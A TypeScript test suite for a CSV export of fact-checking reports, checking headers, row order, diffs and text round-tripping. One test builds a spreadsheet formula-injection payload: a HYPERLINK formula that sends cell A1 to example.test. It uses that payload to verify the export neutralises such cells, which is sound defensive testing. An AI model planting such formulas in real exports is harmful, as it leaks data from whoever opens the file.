import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { leaves, sampleReport, withTexts } from '@/lib/testing/reports'
import { renderCsv } from './csv'
import { COLUMNS } from './csv-columns'

const DIGEST = 'f'.repeat(64)

/** Reads RFC 4180 back: the test's own reader, so that the writer is not judged by itself. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [[]]
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/y
  while (cell.lastIndex < text.length) {
    const match = cell.exec(text)
    if (!match) throw new Error(`not CSV at ${cell.lastIndex}`)
    rows.at(-1)?.push(match[1]?.replaceAll('""', '"') ?? match[2] ?? '')
    if (match[3] === '\r\n') rows.push([])
  }
  return rows.filter((row) => row.length > 0)
}

function table(content = sampleReport()): Record<string, string>[] {
  const [head = [], ...rows] = readCsv(renderCsv(content, DIGEST).slice(1))
  return rows.map((row) => Object.fromEntries(head.map((name, index) => [name, row[index] ?? ''])))
}

describe('the CSV of a report', () => {
  it('begins with a byte order mark and the names of all columns, and every line has them all', () => {
    const text = renderCsv(sampleReport(), DIGEST)
    expect(text.charCodeAt(0)).toBe(0xfeff)
    const rows = readCsv(text.slice(1))
    expect(rows[0]).toEqual([...COLUMNS])
    expect(rows.filter((row) => row.length !== COLUMNS.length)).toEqual([])
    expect(text.endsWith('\r\n')).toBe(true)
  })

  it('holds every text and number of the content, and the digest of the original', () => {
    const rows = table()
    const cells = new Set(
      rows
        .flatMap((row) => Object.values(row))
        .flatMap((cell) => [cell, ...cell.split(' | '), ...cell.split(/\[-|-\]|\{\+|\+\}/)])
        .flatMap((cell) => [cell, cell.trim()]),
    )
    const kinds = ['SAME', 'DELETED', 'INSERTED']
    expect(
      leaves(sampleReport()).filter(({ value }) => ![...cells, ...kinds].includes(String(value))),
    ).toEqual([])
    expect(rows.find((row) => row.row === 'report')?.report_sha256).toBe(DIGEST)
  })

  it('has a line for each thing, in reading order, with its claim and report', () => {
    const rows = table()
    expect(rows.map((row) => `${row.row} ${row.ref}`.trim())).toEqual([
      'report',
      'document D1',
      'document D2',
      'document D3',
      'claim C1',
      'claim-quote C1',
      'attribution C1-A1',
      'attributed-words C1-A1',
      'attributed-words C1-A1',
      'quote-check C1-A1',
      'quote-check C1-A1',
      'quote-check C1-A1',
      'quote-check C1-A1',
      'attribution C1-A2',
      'attributed-words C1-A2',
      'attributed-words C1-A2',
      'evidence C1-E1',
      'quote-check C1-E1',
      'review C1-R1',
      'claim C2',
    ])
    expect(new Set(rows.map((row) => row.report_number))).toEqual(new Set(['7']))
    expect(rows.slice(4, 19).every((row) => row.claim_number === '1')).toBe(true)
  })

  it.each(['=', '+', '-', '@', '\t', '\r'])('makes a cell beginning with %j harmless', (sign) => {
    const evil = `${sign}HYPERLINK("http://example.test/?"&A1,"x")`
    const rows = table(withTexts(sampleReport(), () => evil))
    const cells = rows.flatMap((row) => Object.values(row))
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([])
    expect(rows.find((row) => row.row === 'claim')?.text).toBe(`'${evil}`)
  })

  it('tells what differs as wdiff does', () => {
    const altered = table().find(({ quote_state }) => quote_state === 'ALTERED')
    expect(altered).toMatchObject({
      ...{ quote: 'for the quay.', quote_document: 'D3', quote_start: '301', quote_end: '314' },
      quote_difference: 'for the [-quay.-] {+fish market.+}',
    })
  })

  it('leaves numbers numbers', () => {
    const text = renderCsv(sampleReport(), DIGEST)
    expect(text).toMatch(/,905,920,/)
  })

  it('gives back any text as it was', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme', minLength: 1 }), (text) => {
        fc.pre(!/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(text))
        const report = sampleReport()
        const rows = table({ ...report, title: text })
        expect(rows[0]?.title).toBe(text)
      }),
      { numRuns: 200 },
    )
  })
})
